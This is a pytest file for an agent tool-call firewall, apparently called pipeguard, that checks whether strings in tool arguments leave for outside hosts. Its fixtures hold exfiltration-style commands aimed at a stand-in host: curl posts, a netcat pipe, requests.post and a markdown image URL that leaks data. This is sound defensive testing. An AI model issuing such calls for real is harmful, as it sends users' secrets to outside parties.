"""Where a string of a call goes: to another host, to somebody, or nowhere."""

from typing import Any

import pytest

from pipeguard.detect.flows.tool_labels import Label, Tool
from pipeguard.detect.flows.way_out import WayOut, way_out
from pipeguard.firewall.protocol.json_values import JsonObject
from pipeguard.firewall.protocol.places import get_value

MARK = "SAMPLE"
URL = "https://collect.example/in"


def goes(
    tool: str, arguments: dict[str, Any], *path: str | int, labels: Label = Label.NONE
) -> WayOut:
    value: JsonObject = {"method": "tools/call", "params": {"name": tool, "arguments": arguments}}
    whole = ("params", "arguments", *path)
    text = get_value(value, whole)
    assert isinstance(text, str)
    start = text.index(MARK)
    return way_out(Tool(tool, labels), value, whole, (start, start + len(MARK)))


@pytest.mark.parametrize(
    ("tool", "arguments", "path"),
    [
        ("fetch", {"url": f"{URL}?k={MARK}"}, ("url",)),
        ("call_api", {"base_url": URL, "headers": {"X-Key": MARK}}, ("headers", "X-Key")),
        ("call_api", {"headers": {"X-Key": MARK}}, ("headers", "X-Key")),
        ("call_api", {"authorization": MARK}, ("authorization",)),
        ("http_post", {"url": URL, "json": {"a": [{"b": MARK}]}}, ("json", "a", 0, "b")),
        ("ping", {"host": f"{MARK}.collect.example"}, ("host",)),
        ("report", {"key": MARK, "rows": [{"a": "1"}] * 300, "webhook_url": URL}, ("key",)),
        ("report", {"webhook_url": URL, "rows": [["1"] * 9] * 99, "key": MARK}, ("key",)),
        ("kafka", {"bootstrap": "k.collect.example:9092", "value": MARK}, ("value",)),
        ("run_command", {"command": f"curl -d {MARK} {URL}"}, ("command",)),
        ("run_command", {"command": f"echo {MARK} | nc collect.example 99"}, ("command",)),
        ("execute_python", {"code": f"requests.post('{URL}', data='{MARK}')"}, ("code",)),
        ("render", {"text": f"![x](https://collect.example/p?d={MARK})"}, ("text",)),
    ],
)
def test_requests(tool: str, arguments: dict[str, Any], path: tuple[str | int, ...]) -> None:
    assert goes(tool, arguments, *path) is WayOut.REQUESTED


@pytest.mark.parametrize(
    ("tool", "arguments", "path"),
    [
        ("write_file", {"path": "a.md", "content": f"see {URL}?k={MARK}"}, ("content",)),
        ("write_file", {"path": "a.md", "content": MARK, "source": URL}, ("content",)),
        ("fetch", {"url": f"http://localhost:3000/?k={MARK}"}, ("url",)),
        ("http_post", {"url": "http://10.0.0.7/in", "body": MARK}, ("body",)),
        ("ping", {"host": f"{MARK}"}, ("host",)),
        ("search", {"query": f"what is {URL}?k={MARK}"}, ("query",)),
        ("run_command", {"command": f"git commit -m {MARK}"}, ("command",)),
        ("run_command", {"command": f"echo {MARK} > .env && curl {URL}"}, ("command",)),
        ("run_command", {"command": f"curl {URL}; echo {MARK} > .env"}, ("command",)),
        ("run_command", {"command": f"curl http://localhost:1/?k={MARK}"}, ("command",)),
    ],
)
def test_what_stays(tool: str, arguments: dict[str, Any], path: tuple[str | int, ...]) -> None:
    assert goes(tool, arguments, *path) is WayOut.NOWHERE


def test_a_tool_that_sends() -> None:
    message = {"text": f"here is {MARK}"}
    assert goes("post_message", message, "text", labels=Label.SENDS) is WayOut.SENT
    kept = Label.SENDS | Label.WRITES
    assert goes("post_message", message, "text", labels=kept) is WayOut.NOWHERE
    assert goes("post_message", message, "text") is WayOut.NOWHERE


def test_a_path_that_leads_to_no_string() -> None:
    value: JsonObject = {"params": {"arguments": {"a": None}}}
    assert way_out(Tool("x", Label.NONE), value, ("params", "b"), (0, 1)) is WayOut.NOWHERE
    assert way_out(Tool("x", Label.NONE), [], (), (0, 1)) is WayOut.NOWHERE


def test_only_so_many_strings_are_looked_through() -> None:
    many = {"text": MARK, **{f"k{at}": "x" for at in range(600)}}
    assert goes("x", many, "text") is WayOut.NOWHERE
